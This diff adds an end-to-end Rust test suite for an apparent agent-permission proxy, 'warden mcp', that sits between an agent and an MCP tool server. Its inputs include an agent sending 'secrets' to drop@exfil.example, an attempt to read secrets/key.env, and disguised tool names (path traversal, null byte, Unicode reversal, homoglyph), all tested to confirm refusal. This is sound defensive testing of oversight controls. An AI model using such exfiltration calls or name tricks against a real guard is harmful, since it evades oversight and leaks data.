@@ -1,0 +1,321 @@
+//! `warden mcp` end to end: the real binary between a scripted agent and the real example MCP
+//! server, with the real journal and policies.
+
+mod support;
+
+use serde_json::{Value, json};
+use support::*;
+
+#[test]
+fn an_allowed_call_is_journaled_before_it_takes_effect() {
+    let setup = Setup::new("", "");
+    let mut s = setup.start("alice", &[]);
+    s.initialize();
+    let r = s.call(
+        json!(1),
+        "send_message",
+        json!({"to": "team@example.com", "body": "hello"}),
+    );
+    assert_eq!(result_text(&r), "sent to team@example.com", "{r}");
+    let (status, stderr) = s.finish();
+    assert!(status.success(), "{stderr}");
+
+    let records = setup.records();
+    let decision = records.iter().find(|r| r.kind == "decision").unwrap();
+    assert_eq!(decision.agent.as_str(), "alice");
+    assert_eq!(decision.body["effect"], "allow");
+    assert_eq!(decision.body["target"], "files/send_message");
+    assert_eq!(decision.body["policies"], json!(["alice-messages-team"]));
+    assert!(decision.body["args_digest"].as_str().unwrap().starts_with("sha256:"));
+    let outcome = records.iter().find(|r| r.kind == "outcome").unwrap();
+    assert!(outcome.seq > decision.seq);
+    assert_eq!(outcome.body["decision_seq"], decision.seq);
+    assert_eq!(outcome.body["outcome"], "ok");
+    assert_eq!(setup.outbox().len(), 1);
+}
+
+#[test]
+fn a_refused_call_never_reaches_the_server() {
+    let setup = Setup::new("", "");
+    let mut s = setup.start("mallory", &[]);
+    s.initialize();
+    let r = s.call(
+        json!("exfil"),
+        "send_message",
+        json!({"to": "drop@exfil.example", "body": "secrets"}),
+    );
+    assert_eq!(r["id"], "exfil");
+    assert_eq!(r["result"]["isError"], true);
+    assert_eq!(refusal_effect(&r).as_deref(), Some("deny"));
+    let text = result_text(&r);
+    assert!(text.contains("no policy permits"), "{text}");
+    assert!(text.contains("mallory"), "{text}");
+    let seq = r["result"]["_meta"]["warden/decision"]["journal_seq"]
+        .as_u64()
+        .unwrap();
+
+    let r = s.call(json!(2), "read_file", json!({"path": "secrets/key.env"}));
+    assert_eq!(refusal_effect(&r).as_deref(), Some("deny"));
+    assert!(result_text(&r).contains("off limits"));
+    assert!(!result_text(&r).contains("test-fixture"));
+    s.finish();
+
+    assert!(setup.outbox().is_empty(), "the refused message was delivered");
+    let decisions = setup.decisions();
+    let refused = decisions.iter().find(|d| d.seq == seq).unwrap();
+    assert_eq!(refused.body["effect"], "deny");
+    // Refused calls have no outcome: nothing happened.
+    assert!(!setup.records().iter().any(|r| r.kind == "outcome"));
+}
+
+#[test]
+fn ask_is_refused_until_approvals_exist() {
+    let setup = Setup::new("", "");
+    let mut s = setup.start("alice", &[]);
+    s.initialize();
+    let r = s.call(json!(1), "transfer", json!({"to": "acme", "amount": 5000}));
+    assert_eq!(refusal_effect(&r).as_deref(), Some("ask"));
+    assert!(result_text(&r).contains("approval required"), "{r}");
+    s.finish();
+    assert_eq!(setup.decisions()[0].body["effect"], "ask");
+}
+
+#[test]
+fn tools_list_shows_only_what_the_agent_may_call() {
+    let setup = Setup::new("", "");
+    let mut s = setup.start("mallory", &[]);
+    s.initialize();
+    let r = s.request(json!(1), "tools/list", json!({}));
+    let mut names: Vec<&str> = r["result"]["tools"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|t| t["name"].as_str().unwrap())
+        .collect();
+    names.sort();
+    assert_eq!(names, ["list_dir", "read_file"]);
+    s.finish();
+}
+
+#[test]
+fn what_warden_does_not_decide_passes_through_intact() {
+    let setup = Setup::new("", TESTER_POLICY);
+    let mut s = setup.start("tester", &[]);
+    let init = s.initialize();
+    assert_eq!(init["result"]["protocolVersion"], "2025-06-18");
+
+    // ping, with a string id
+    let r = s.request(json!("p-1"), "ping", json!({}));
+    assert_eq!(r, json!({"jsonrpc": "2.0", "id": "p-1", "result": {}}));
+
+    // _meta reaches the server
+    let r = s.request(
+        json!(2),
+        "tools/call",
+        json!({"name": "echo", "arguments": {"x": [1, 2]}, "_meta": {"trace": "t-1"}}),
+    );
+    let echoed: Value = serde_json::from_str(&result_text(&r)).unwrap();
+    assert_eq!(echoed["_meta"]["trace"], "t-1");
+    assert_eq!(echoed["arguments"], json!({"x": [1, 2]}));
+
+    // progress notifications come back before the result
+    let r = s.request(
+        json!(3),
+        "tools/call",
+        json!({"name": "slow_count", "arguments": {"n": 3, "delay_ms": 1},
+               "_meta": {"progressToken": "tok"}}),
+    );
+    assert_ne!(r["result"]["isError"], true, "{r}");
+    let progress: Vec<&Value> = s
+        .other
+        .iter()
+        .filter(|m| m["method"] == "notifications/progress")
+        .collect();
+    assert_eq!(progress.len(), 3, "{:?}", s.other);
+    assert!(progress.iter().all(|m| m["params"]["progressToken"] == "tok"));
+
+    // a server-to-client request, answered by the agent, keeps its id both ways
+    s.send(&json!({"jsonrpc": "2.0", "id": 4, "method": "tools/call",
+                   "params": {"name": "ask_roots", "arguments": {}}}));
+    let request = s.recv().unwrap();
+    assert_eq!(request["method"], "roots/list");
+    let server_id = request["id"].clone();
+    s.send(&json!({"jsonrpc": "2.0", "id": server_id,
+                   "result": {"roots": [{"uri": "file:///agent-root", "name": "r"}]}}));
+    let r = s.response(&json!(4));
+    assert!(result_text(&r).contains("file:///agent-root"), "{r}");
+
+    // a method Warden does not know goes to the server, and its answer comes back
+    let r = s.request(json!(5), "vendor/custom", json!({"a": 1}));
+    assert_eq!(r["error"]["code"], -32601, "{r}");
+    s.finish();
+}
+
+#[test]
+fn bad_messages_get_clear_errors_and_the_session_goes_on() {
+    let setup = Setup::new("[limits]\nmax_message_bytes = 65536\n", TESTER_POLICY);
+    let mut s = setup.start("tester", &[]);
+    s.initialize();
+
+    s.send_raw(b"{not json\n");
+    let r = s.recv().unwrap();
+    assert_eq!(r["error"]["code"], -32700);
+    assert_eq!(r["id"], Value::Null);
+
+    s.send_raw(b"{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\",\"x\":\"\xff\xfe\"}\n");
+    assert_eq!(s.recv().unwrap()["error"]["code"], -32700, "invalid UTF-8");
+
+    s.send(&json!({"jsonrpc": "1.0", "id": 7, "method": "ping"}));
+    let r = s.response(&json!(7));
+    assert_eq!(r["error"]["code"], -32600);
+
+    s.send(&json!([{"jsonrpc": "2.0", "id": 8, "method": "tools/call",
+                    "params": {"name": "delete_file", "arguments": {"path": "notes.txt"}}}]));
+    let r = s.recv().unwrap();
+    assert_eq!(r["error"]["code"], -32600, "batches are refused: {r}");
+
+    let big = "x".repeat(100_000);
+    s.send(&json!({"jsonrpc": "2.0", "id": 9, "method": "tools/call",
+                   "params": {"name": "echo", "arguments": {"blob": big}}}));
+    let r = s.response(&json!(9));
+    assert_eq!(r["error"]["code"], -32003, "{r}");
+
+    let r = s.request(json!(10), "tools/call", json!({"arguments": {}}));
+    assert_eq!(r["error"]["code"], -32602);
+    let r = s.request(json!(11), "tools/call", json!({"name": "echo", "arguments": [1]}));
+    assert_eq!(r["error"]["code"], -32602);
+
+    // Deeply nested JSON is refused by the parser, not followed.
+    let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
+    s.send_raw(format!("{{\"jsonrpc\":\"2.0\",\"id\":12,\"method\":\"ping\",\"params\":{{\"d\":{deep}}}}}\n").as_bytes());
+    let r = s.recv().unwrap();
+    assert!(r["error"]["code"] == -32700 || r["error"]["code"] == -32003, "{r}");
+
+    // After all that, the session still works.
+    let r = s.request(json!(13), "ping", json!({}));
+    assert_eq!(r["result"], json!({}));
+    let (status, stderr) = s.finish();
+    assert!(status.success(), "{stderr}");
+    assert!(setup.outbox().is_empty());
+    assert!(setup.path("workspace/notes.txt").exists());
+}
+
+#[test]
+fn tool_name_tricks_match_no_permit() {
+    let setup = Setup::new("", "");
+    let mut s = setup.start("alice", &[]);
+    s.initialize();
+    for (i, name) in [
+        "../read_file",
+        "files/read_file",
+        "read_file\u{0}",
+        "read\u{202E}elif_daer",
+        "read_fіle", // Cyrillic 'і'
+        "READ_FILE",
+        "",
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let r = s.call(json!(i), name, json!({"path": "notes.txt"}));
+        assert_eq!(refusal_effect(&r).as_deref(), Some("deny"), "{name:?}: {r}");
+    }
+    s.finish();
+    let decisions = setup.decisions();
+    assert_eq!(decisions.len(), 7);
+    assert!(decisions.iter().all(|d| d.body["effect"] == "deny"));
+}
+
+#[test]
+fn arguments_of_the_wrong_type_fail_closed() {
+    let setup = Setup::new("", "");
+    let mut s = setup.start("alice", &[]);
+    s.initialize();
+    for (i, amount) in [json!("50"), json!(50.5), json!([50]), json!({"v": 50})]
+        .into_iter()
+        .enumerate()
+    {
+        let r = s.call(json!(i), "transfer", json!({"to": "acme", "amount": amount}));
+        assert_eq!(refusal_effect(&r).as_deref(), Some("deny"), "{amount}: {r}");
+    }
+    let r = s.call(json!(9), "transfer", json!({"to": "acme", "amount": 50}));
+    assert_eq!(refusal_effect(&r), None, "{r}");
+    s.finish();
+    assert!(!setup.path("workspace/.outbox/transfers.jsonl").exists() || {
+        let t = std::fs::read_to_string(setup.path("workspace/.outbox/transfers.jsonl")).unwrap();
+        t.lines().count() == 1
+    });
+}
+
+#[test]
+fn a_request_id_in_flight_cannot_be_reused() {
+    let setup = Setup::new("", TESTER_POLICY);
+    let mut s = setup.start("tester", &[]);
+    s.initialize();
+    let slow = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
+                      "params": {"name": "slow_count", "arguments": {"n": 2, "delay_ms": 300}}});
+    s.send(&slow);
+    s.send(&slow);
+    let first = s.recv().unwrap();
+    assert_eq!(first["error"]["code"], -32600, "{first}");
+    let second = s.response(&json!(1));
+    assert!(second.get("result").is_some(), "{second}");
+    s.finish();
+}
+
+#[test]
+fn an_upstream_that_crashes_fails_the_call_and_ends_the_session() {
+    let setup = Setup::new("", TESTER_POLICY);
+    let mut s = setup.start("tester", &["--misbehave", "crash-on-call"]);
+    s.initialize();
+    let r = s.call(json!(1), "echo", json!({}));
+    assert_eq!(r["error"]["code"], -32002, "{r}");
+    let (status, stderr) = s.finish();
+    assert_eq!(status.code(), Some(1), "{stderr}");
+    assert!(stderr.contains("upstream server exited"), "{stderr}");
+    let outcome = setup.records().into_iter().find(|r| r.kind == "outcome").unwrap();
+    assert_eq!(outcome.body["outcome"], "upstream_gone");
+}
+
+#[test]
+fn an_upstream_that_never_answers_initialize_times_out() {
+    let setup = Setup::new("[limits]\ninitialize_timeout_secs = 0.5\n", TESTER_POLICY);
+    let mut s = setup.start("tester", &["--misbehave", "hang-on-initialize"]);
+    let r = s.request(
+        json!(0),
+        "initialize",
+        json!({"protocolVersion": "2025-06-18", "capabilities": {},
+               "clientInfo": {"name": "t", "version": "1"}}),
+    );
+    assert_eq!(r["error"]["code"], -32001, "{r}");
+    assert!(r["error"]["message"].as_str().unwrap().contains("initialize"));
+    s.finish();
+}
+
+#[test]
+fn upstream_silence_and_garbage_end_in_a_timeout_not_a_hang() {
+    for mode in ["never-answer-calls", "garbage"] {
+        let setup = Setup::new("[limits]\ncall_timeout_secs = 0.5\n", TESTER_POLICY);
+        let mut s = setup.start("tester", &["--misbehave", mode]);
+        s.initialize();
+        let r = s.call(json!(1), "echo", json!({}));
+        assert_eq!(r["error"]["code"], -32001, "{mode}: {r}");
+        let r = s.request(json!(2), "ping", json!({}));
+        assert_eq!(r["result"], json!({}), "{mode}: the session goes on");
+        s.finish();
+        let outcome = setup.records().into_iter().find(|r| r.kind == "outcome").unwrap();
+        assert_eq!(outcome.body["outcome"], "timeout", "{mode}");
+    }
+}
+
+#[test]
+fn an_oversize_answer_from_upstream_is_an_error_not_a_crash() {
+    let setup = Setup::new("", TESTER_POLICY);
+    let mut s = setup.start("tester", &["--misbehave", "huge-result"]);
+    s.initialize();
+    let r = s.call(json!("big"), "echo", json!({}));
+    assert_eq!(r["error"]["code"], -32003, "{r}");
+    let r = s.request(json!(2), "ping", json!({}));
+    assert_eq!(r["result"], json!({}));
+    s.finish();
+}
